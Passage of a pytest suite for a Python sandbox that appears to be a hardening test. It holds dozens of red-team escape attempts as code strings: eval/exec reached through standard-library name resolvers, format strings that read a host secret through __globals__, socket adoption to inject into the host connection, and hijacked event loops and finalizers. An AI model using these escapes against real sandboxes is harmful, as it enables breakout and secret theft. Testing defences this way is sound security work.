        "class Policy(asyncio.DefaultEventLoopPolicy):\n"
        "    def new_event_loop(self):\n"
        "        later()\n"
        "        return super().new_event_loop()\n"
        "asyncio.set_event_loop_policy(Policy())\n",
        after="import asyncio\nasyncio.new_event_loop().close()\n",
        effect=_target_written,),
    Attempt(
        "url_opener_used_by_the_host", 5,
        LATER +
        "import urllib.request\n"
        "class Opener:\n"
        "    def open(self, *args, **kwargs):\n"
        "        later()\n"
        "urllib.request.install_opener(Opener())\n",
        after="import urllib.request\n"
              "try:\n"
              "    urllib.request.urlopen('http://127.0.0.1:9/')\n"
              "except Exception:\n"
              "    pass\n",
        effect=_target_written,),
    Attempt(
        "hard_deadline_callback_of_a_sandbox_the_app_made", 5,
        LATER +
        "import time\n"
        "from gae_sandbox import Policy, Sandbox\n"
        "inner = Sandbox(Policy.python27(app_root=app_root, deadline=0.05,\n"
        "                                hard_deadline_grace=0.05),\n"
        "                on_hard_deadline=lambda *args: later())\n"
        + _OVERRUN_INNER,
        after=_WAIT_FOR_TARGET,
        effect=_target_written,),
    # weakness 5: app objects the middleware held, let go of in the server's code
    Attempt(
        "wsgi_body_without_close_finalized_by_the_server", 5,
        THING +
        "class Body:\n"
        "    def __init__(self):\n"
        "        self.thing = Thing()\n"
        "    def __iter__(self):\n"
        "        return iter([b'ok'])\n"
        "def app(environ, start_response):\n"
        "    start_response('200 OK', [])\n"
        "    return Body()\n",
        runner="wsgi", after=_FINALIZED, effect=_target_written,),
    Attempt(
        "wsgi_list_chunk_finalized_by_the_server", 5,
        LATER +
        "class Chunk(bytes):\n"
        "    def __del__(self):\n"
        "        later()\n"
        "def app(environ, start_response):\n"
        "    start_response('200 OK', [])\n"
        "    return [Chunk(b'ok')]\n",
        runner="wsgi", after=_FINALIZED, effect=_target_written,),
    Attempt(
        "wsgi_environ_value_finalized_by_the_server", 5,
        THING +
        "def app(environ, start_response):\n"
        "    environ['app.thing'] = Thing()\n"
        "    start_response('200 OK', [])\n"
        "    return [b'ok']\n",
        runner="wsgi", after=_FINALIZED, effect=_target_written,),
    Attempt(
        "wsgi_error_frame_local_finalized_by_the_server", 5,
        THING +
        "def app(environ, start_response):\n"
        "    kept = Thing()\n"
        "    raise ValueError('app failure')\n",
        runner="wsgi", after=_FINALIZED, effect=_target_written,),
]

#: Restricted-mode attempts: unrestricted code reached through a standard-library module
#: that takes a name or a string, which then replaces json.dumps for the host (what default
#: mode cannot see: README, known gaps), or a format string walking to a host secret.
_PERSIST = ("setattr(__import__('json'), 'dumps', "
            "lambda *a, **k: open(target, 'w').write('x'))")
_HOST_DUMPS = "import json\ntry:\n    json.dumps(9)\nexcept Exception:\n    pass\n"
_SHARED_GAP = ("default mode: an attribute of a shared module (json.dumps) replaced, which no "
               "audit event sees (README, known gaps); restricted mode is the answer")
_INTROSPECTION_GAP = ("default mode: a format string walks __init__.__globals__ to the host's "
                      "module globals; introspection is restricted mode's (README)")
_HOST_SECRET = "SECRET = open(CONFIG['secret_path']).read()\n"
_SECRET_IN_RESULT = "if 'host secret' in str(ns.get('result')):\n    print('EFFECT')\n"

RESTRICTED_ROUND3 = [
    Attempt(
        "typing_get_type_hints_evaluates_a_string", 1,
        "import typing\n"
        f"Hint = typing.NamedTuple('Hint', [('x', {_PERSIST!r})])\n"
        "typing.get_type_hints(Hint, {'target': target})\n",
        after=_HOST_DUMPS, effect=_target_written, restricted=True, gap=_SHARED_GAP),
    Attempt(
        "pkgutil_resolve_name_hands_out_eval", 1,
        "import pkgutil\n"
        "run = pkgutil.resolve_name('builtins:eval')\n"
        f"run({_PERSIST!r}, {{'__builtins__': pkgutil.resolve_name('builtins'), "
        "'target': target})\n",
        after=_HOST_DUMPS, effect=_target_written, restricted=True, gap=_SHARED_GAP),
    Attempt(
        "logging_config_resolve_hands_out_exec", 1,
        "import logging.config\n"
        "resolve = logging.config.BaseConfigurator({}).resolve\n"
        f"resolve('builtins.exec')({_PERSIST!r}, {{'__builtins__': resolve('builtins'), "
        "'target': target})\n",
        after=_HOST_DUMPS, effect=_target_written, restricted=True, gap=_SHARED_GAP),
    Attempt(
        "pydoc_locate_hands_out_eval", 1,
        "import pydoc\n"
        f"pydoc.locate('builtins.eval')({_PERSIST!r}, "
        "{'__builtins__': pydoc.locate('builtins'), 'target': target})\n",
        after=_HOST_DUMPS, effect=_target_written, restricted=True, gap=_SHARED_GAP),
    Attempt(
        "mock_patch_replaces_a_shared_function", 1,
        "import functools, gzip, unittest.mock\n"
        "unittest.mock.patch('json.dumps', new=functools.partial(gzip.open, target, 'wb'))"
        ".start()\n",
        after=_HOST_DUMPS, effect=_target_written, restricted=True, gap=_SHARED_GAP),
    Attempt(
        "timeit_timer_runs_a_string", 1,
        "import time, timeit\n"
        f"timeit.Timer({_PERSIST!r}, globals={{'target': target}})"
        ".inner(range(1), time.perf_counter)\n",
        after=_HOST_DUMPS, effect=_target_written, restricted=True, gap=_SHARED_GAP),
    Attempt(
        "logging_formatter_format_string_reads_host_globals", 1,
        "import logging\n"
        "formatter = logging.Formatter("
        "'{msg.__init__.__globals__[sys].modules[__main__].SECRET}', style='{')\n"
        "result = formatter.format(logging.makeLogRecord({'msg': formatter}))\n",
        setup=_HOST_SECRET, after=_SECRET_IN_RESULT, restricted=True,
        gap=_INTROSPECTION_GAP),
    Attempt(
        "userstring_format_reads_host_globals", 1,
        "import collections\n"
        "text = collections.UserString("
        "'{0.__init__.__globals__[_sys].modules[__main__].SECRET}')\n"
        "result = str(text.format(text))\n",
        setup=_HOST_SECRET, after=_SECRET_IN_RESULT, restricted=True,
        gap=_INTROSPECTION_GAP),
]

#: A red-team pass on this round's own changes.
_FLIPPING_DESCRIPTOR = (
    "class Descriptor:\n"  # no int on the first conversion, the host's after; equal to all
    "    def __init__(self, number):\n"
    "        self.number, self.calls = number, 0\n"
    "    def __index__(self):\n"
    "        self.calls += 1\n"
    "        if self.calls == 1:\n"
    "            raise TypeError('not yet')\n"
    "        return self.number\n"
    "    def __eq__(self, other):\n"
    "        return True\n"
    "    __hash__ = object.__hash__\n"
    "def twice(function, number, *args):\n"
    "    descriptor = Descriptor(number)\n"
    "    try:\n"
    "        return function(descriptor, *args)\n"
    "    except TypeError:\n"
    "        return function(descriptor, *args)\n")
_HOST_CONNECTION = ("import socket\n"
                    "host_listener = socket.socket()\n"
                    "host_listener.bind(('127.0.0.1', 0))\n"
                    "host_listener.listen(4)\n"
                    "host_socket = socket.create_connection(host_listener.getsockname())\n"
                    "host_peer, _ = host_listener.accept()\n"
                    "host_peer.settimeout(3)\n"
                    "ns['hostsock'] = host_socket.fileno()\n")
_PEER_GOT_DATA = ("try:\n"
                  "    received = host_peer.recv(100)\n"
                  "except OSError:\n"
                  "    received = b''\n"
                  "if b'INJECTED' in received:\n"
                  "    print('EFFECT: the app wrote into the host connection')\n")

#: host code after the request: run a coroutine on this thread's event loop, if any
_RUN_HOST_LOOP = ("import asyncio, warnings\n"
                  "with warnings.catch_warnings():\n"
                  "    warnings.simplefilter('ignore')\n"
                  "    try:\n"
                  "        loop = asyncio.get_event_loop()\n"
                  "    except RuntimeError:\n"
                  "        loop = None\n"
                  "if loop is not None:\n"
                  "    async def nothing():\n"
                  "        return None\n"
                  "    try:\n"
                  "        loop.run_until_complete(nothing())\n"
                  "    except Exception:\n"
                  "        pass\n")
ROUND3_REVIEW = [
    Attempt(
        "descriptor_whose_index_changes_reads_a_host_file", 3,
        _FLIPPING_DESCRIPTOR +
        "import os\n"
        "result = twice(os.read, hostfd, 64)\n",
        setup=_HOST_FD, after=SECRET_READ,),
    Attempt(
        "socket_fileno_whose_index_changes_adopts_the_host_connection", 3,
        _FLIPPING_DESCRIPTOR +
        "import socket\n"
        "taken = twice(lambda fd: socket.socket(fileno=fd), hostsock)\n"
        "taken.sendall(b'INJECTED')\n"
        "taken.detach()\n",
        setup=_HOST_CONNECTION, after=_PEER_GOT_DATA,),
    Attempt(
        "socket_initializer_reentered_from_an_index", 3,
        "import socket\n"
        "initializer = socket.socket.__mro__[1].__init__\n"
        "taken = socket.socket.__new__(socket.socket)\n"
        "class Family:\n"
        "    def __index__(self):\n"
        "        initializer(taken, 2, 1, 0, hostsock)\n"
        "        raise ValueError('the outer initializer stops here')\n"
        "try:\n"
        "    socket.socket.__init__(taken, Family(), 1, 0)\n"
        "except ValueError:\n"
        "    pass\n"
        "taken.sendall(b'INJECTED')\n"
        "taken.detach()\n",
        setup=_HOST_CONNECTION, after=_PEER_GOT_DATA,),
    Attempt(
        "unpack_format_extensions_iterated_by_the_host", 5,
        LATER +
        "import shutil\n"
        "class Extensions(list):\n"
        "    def __iter__(self):\n"
        "        later()\n"
        "        return list.__iter__(self)\n"
        "shutil.register_unpack_format('gae_redteam_x', Extensions(['.gaerx']), "
        "lambda *args: None)\n",
        after="import shutil\n"
              "try:\n"
              "    shutil.unpack_archive(os.path.join(CONFIG['outdir'], 'x.zip'),\n"
              "                          CONFIG['outdir'])\n"
              "except Exception:\n"
              "    pass\n",
        effect=_target_written,),
    Attempt(
        "event_loop_left_on_the_request_thread", 6,
        LATER +
        "import asyncio\n"
        "class Loop(asyncio.SelectorEventLoop):\n"
        "    def run_until_complete(self, future):\n"
        "        later()\n"
        "        return super().run_until_complete(future)\n"
        "asyncio.set_event_loop(Loop())\n",
        after=_RUN_HOST_LOOP, effect=_target_written,),
    Attempt(
        "hard_deadline_callback_read_through_a_property", 5,
        LATER +
        "import time\n"
        "from gae_sandbox import Policy, Sandbox\n"
        "class Mine(Sandbox):\n"
        "    @property\n"
        "    def on_hard_deadline(self):\n"
        "        later()\n"
        "        return None\n"
        "    @on_hard_deadline.setter\n"
        "    def on_hard_deadline(self, value):\n"
        "        pass\n"
        "inner = Mine(Policy.python27(app_root=app_root, deadline=0.05,\n"
        "                             hard_deadline_grace=0.05))\n"
        + _OVERRUN_INNER,
        after=_WAIT_FOR_TARGET,
        effect=_target_written,),
    Attempt(
        "update_wrapper_merges_a_modules_globals", 1,
        "import functools, json\n"
        "def me():\n"
        "    pass\n"
        "functools.update_wrapper(me, json.loads, assigned=(), updated=('__globals__',))\n"
        "result = [getattr(json, name) for name in ['__file__']]\n",  # json's builtins now
        after="if str((ns.get('result') or [''])[0]).endswith('__init__.py'):\n"
              "    print('EFFECT: the unguarded getattr reached a module attribute')\n",
        restricted=True,
        gap="default mode: introspection by name (a module's __file__, its globals) is "
            "restricted mode's (README)"),
    Attempt(
        "one_line_compile_claims_a_standard_library_file_for_pwd", 1,
        "import posixpath\n"
        "exec(compile('import pwd', posixpath.__file__, 'exec'), globals())\n"
        "result = [entry[0] for entry in pwd.getpwall()]\n",
        after="if 'root' in (ns.get('result') or ()):\n"
              "    print('EFFECT: the app read the user database')\n",
        requires="pwd"),
]

#: app code: a stand-in event loop whose run_until_complete writes the target
_APP_LOOP = (LATER +
             "import asyncio\n"
             "class Loop(asyncio.AbstractEventLoop):\n"
             "    def run_until_complete(self, future):\n"
             "        future.close()\n"
             "        later()\n"
             "    def is_running(self):\n"
             "        return False\n"
             "    def is_closed(self):\n"
             "        return False\n")

# Round 4: an outside red-team pass on this stop's main.
ROUND4 = [
    Attempt(
        "running_loop_slot_left_on_the_thread", 5,
        _APP_LOOP + "asyncio.events._set_running_loop(Loop())\n",
        after=_RUN_HOST_LOOP, effect=_target_written,),
    Attempt(
        "event_loop_set_through_the_policy_method", 5,
        _APP_LOOP + "asyncio.get_event_loop_policy().set_event_loop(Loop())\n",
        after=_RUN_HOST_LOOP, effect=_target_written,),
    Attempt(
        "event_loop_policy_replaced_in_the_module", 5,
        _APP_LOOP +
        "class Policy(asyncio.DefaultEventLoopPolicy):\n"
        "    def get_event_loop(self):\n"
        "        return Loop()\n"
        "asyncio.events._event_loop_policy = Policy()\n",
        after=_RUN_HOST_LOOP, effect=_target_written,),
    Attempt(
        "level_name_formatted_by_host_logging", 5,
        LATER +
        "import logging\n"
        "class Name(str):\n"
        "    def __str__(self):\n"
        "        later()\n"
        "        return 'WARNING'\n"
        "logging.addLevelName(logging.WARNING, Name('WARNING'))\n",
        after="import io, logging\n"
              "handler = logging.StreamHandler(io.StringIO())\n"
              "handler.setFormatter(logging.Formatter('%(levelname)s %(message)s'))\n"
              "logging.getLogger('gae_redteam_host').addHandler(handler)\n"
              "logging.getLogger('gae_redteam_host').warning('host line')\n"
              "'%s' % logging.getLevelName(logging.WARNING)\n",
        effect=_target_written,),
    Attempt(
        "mime_type_read_by_a_host_static_server", 5,
        LATER +
        "import mimetypes\n"
        "class Mime(str):\n"
        "    def __len__(self):\n"
        "        later()\n"
        "        return str.__len__(self)\n"
        "mimetypes.add_type(Mime('text/x-gae-redteam'), '.gaert')\n",
        after="import mimetypes\n"
              "mime = mimetypes.guess_type('page.gaert')[0]\n"
              "len(mime or '')\n",
        effect=_target_written,),
    Attempt(
        "module_cleanup_run_by_a_host_test_runner", 6,
        LATER +
        "import unittest\n"
        "unittest.addModuleCleanup(later)\n",
        after="import unittest.case\n"
              "try:\n"
              "    unittest.case.doModuleCleanups()\n"
              "except Exception:\n"
              "    pass\n",
        effect=_target_written,),
]

ATTEMPTS: list[Attempt] = [*W1, *W2, *W3, *W4, *W5, *W6, *ROUND2_REVIEW, *ROUND3,
                            *RESTRICTED_ROUND3, *ROUND3_REVIEW, *ROUND4]

assert len(ATTEMPTS) >= 30, len(ATTEMPTS)
assert len({attempt.id for attempt in ATTEMPTS}) == len(ATTEMPTS)


# -- running one attempt -------------------------------------------------------------------------


def _run(attempt: Attempt, mode: str, app_root: Path, outside: Path, tmp_path: Path,
         listener: Any) -> Run:
    outdir = tmp_path / "out"
    outdir.mkdir()
    home = tmp_path / "home"
    home.mkdir()
    marker = tmp_path / "marker"
    changes = {key: [v.format(port=listener.port) for v in value]
               if isinstance(value, tuple) else value for key, value in attempt.policy}
    config = {
        "mode": mode, "runner": attempt.runner, "policy": changes,
        "app_root": str(app_root), "outdir": str(outdir),
        "target": str(outdir / "written.txt"), "marker": str(marker),
        "secret_path": str(outside / "secret.txt"), "outside_dir": str(outside),
        "port": listener.port, "setup": attempt.setup,
        "source": attempt.source, "after": attempt.after,
    }
    env = {**os.environ, "HOME": str(home)}
    env.pop("PYTHONFAULTHANDLER", None)
    result = subprocess.run([sys.executable, "-c", CHILD, json.dumps(config)],
                            capture_output=True, text=True, timeout=120, check=False,
                            cwd=tmp_path, env=env)
    return Run(result.returncode, result.stdout, result.stderr, outdir / "written.txt",
               marker, home, app_root, listener)


def _effect(attempt: Attempt, run: Run) -> bool:
    if attempt.death:
        return run.returncode != 0 and not run.survived
    return attempt.effect(run)


def _params(mode: str) -> list[Any]:
    params = []
    for attempt in ATTEMPTS:
        if mode == "restricted" and not attempt.restricted:
            continue
        marks = []
        if attempt.requires is not None:
            marks.append(pytest.mark.skipif(not _has(attempt.requires),
                                            reason=f"needs {attempt.requires}"))
        reason = attempt.gap if mode == "enforce" else (
            attempt.restricted_gap if mode == "restricted" else None)
        if reason is not None:
            marks.append(pytest.mark.xfail(strict=True, reason=reason))
        params.append(pytest.param(attempt, id=f"w{attempt.weakness}-{attempt.id}",
                                   marks=marks))
    return params


@pytest.mark.parametrize("attempt", _params("plain"))
def test_control_plain_python_has_the_effect(attempt: Attempt, app_root: Path, outside: Path,
                                            tmp_path: Path, listener: Any) -> None:
    run = _run(attempt, "plain", app_root, outside, tmp_path, listener)
    assert _effect(attempt, run), f"the control did not produce the effect\n{run}"


@pytest.mark.parametrize("attempt", _params("enforce"))
def test_default_mode_stops_it(attempt: Attempt, app_root: Path, outside: Path,
                               tmp_path: Path, listener: Any) -> None:
    run = _run(attempt, "enforce", app_root, outside, tmp_path, listener)
    assert not _effect(attempt, run), f"{attempt.id} escaped in the default mode\n{run}"
    assert run.survived and run.returncode == 0, f"the host did not get to its end\n{run}"


@pytest.mark.parametrize("attempt", _params("restricted"))
def test_restricted_mode_stops_it(attempt: Attempt, app_root: Path, outside: Path,
                                  tmp_path: Path, listener: Any) -> None:
    run = _run(attempt, "restricted", app_root, outside, tmp_path, listener)
    assert not _effect(attempt, run), f"{attempt.id} escaped in restricted mode\n{run}"
    assert run.survived and run.returncode == 0, f"the host did not get to its end\n{run}"


def test_the_attempts_cover_every_weakness() -> None:
    counts = {weakness: sum(a.weakness == weakness for a in ATTEMPTS) for weakness in range(1, 7)}
    assert all(count >= 4 for count in counts.values()), counts


# -- well-behaved apps: what the closed gaps must still allow -------------------------------------


def test_an_opener_returning_its_own_descriptor_still_works(app_root: Path) -> None:
    """``open(..., opener=)`` with the request's own ``os.open`` (pathlib's way, ``dir_fd``
    openers), through ``open``, ``io.open`` and ``os.fdopen`` of its own descriptor."""
    import io

    from gae_sandbox import Policy, Sandbox

    policy = Policy.python27(app_root=app_root, deadline=None)
    with Sandbox(policy) as box:
        with open(app_root / "data.txt", "rb", opener=os.open) as file:
            first = file.read()
        with io.open("data.txt", encoding="utf-8",  # noqa: UP020 - io.open is patched too
                     opener=lambda path, flags: os.open(path, flags)) as file:
            second = file.read()
        own = os.open(app_root / "data.txt", os.O_RDONLY)
        with os.fdopen(own, "rb") as file:
            third = file.read()
        text = (app_root / "pkg" / "helpers.py").read_text()
    assert first == third == b"app data\n" and second == "app data\n"
    assert "def double" in text
    assert box.violations == []


def test_epoll_fromfd_of_the_requests_own_loop_still_works(app_root: Path) -> None:
    import select
    import selectors

    from gae_sandbox import Policy, Sandbox

    policy = Policy.python27(app_root=app_root, deadline=None)
    with Sandbox(policy) as box:
        own = select.epoll()
        read_end, write_end = os.pipe()
        own.register(read_end, select.EPOLLIN)
        adopted = select.epoll.fromfd(os.dup(own.fileno()))
        os.write(write_end, b"x")
        events = adopted.poll(0)
        adopted.close()
        with select.epoll() as scoped:  # closed by the with block
            scoped.register(read_end, select.EPOLLIN)
        with selectors.DefaultSelector() as selector:
            selector.register(read_end, selectors.EVENT_READ)
            ready = selector.select(0)
        own.close()
        os.close(read_end)
        os.close(write_end)
    assert events == [(read_end, select.EPOLLIN)] and len(ready) == 1
    assert box.violations == []
    host = select.epoll()  # host code: any descriptor, as without the sandbox
    select.epoll.fromfd(os.dup(host.fileno())).close()
    host.close()


def test_environ_writes_stay_in_the_request_through_every_view(app_root: Path) -> None:
    """Writes through ``os.environ``, its ``_data``, ``os.environb`` and ``posix.environ``
    are the request's: it sees them, the host and the next request do not."""
    from gae_sandbox import Policy, Sandbox

    name = "GAE_REDTEAM_WELL_BEHAVED"
    posix = sys.modules[os.name]
    host_data = os.environ._data
    assert name not in os.environ
    policy = Policy.python27(app_root=app_root, deadline=None, env_variables={name + "_P": "p"})
    with Sandbox(policy) as box:
        os.environ[name] = "1"
        os.environ._data[(name + "_DATA").encode()] = b"2"
        os.environb[(name + "_B").encode()] = b"3"
        posix.environ[(name + "_POSIX").encode()] = b"4"
        seen = {key: os.environ.get(key) for key in (name, name + "_DATA", name + "_B",
                                                      name + "_POSIX", name + "_P")}
        listed = {key for key in os.environ if key.startswith(name)}
        assert os.environ._data is not host_data
        assert os.getenvb((name + "_P").encode()) == b"p"
        del os.environ[name + "_P"]
        assert os.environ.get(name + "_P") is None and name + "_P" not in dict(os.environ)
    assert seen == {name: "1", name + "_DATA": "2", name + "_B": "3", name + "_POSIX": "4",
                    name + "_P": "p"}
    assert listed == set(seen)
    assert box.violations == []
    assert not [key for key in os.environ if key.startswith(name)]
    assert os.environ._data is host_data
    assert not [key for key in host_data if key.startswith(name.encode())]
    with Sandbox(policy):
        assert os.environ.get(name) is None and os.environ.get(name + "_P") == "p"
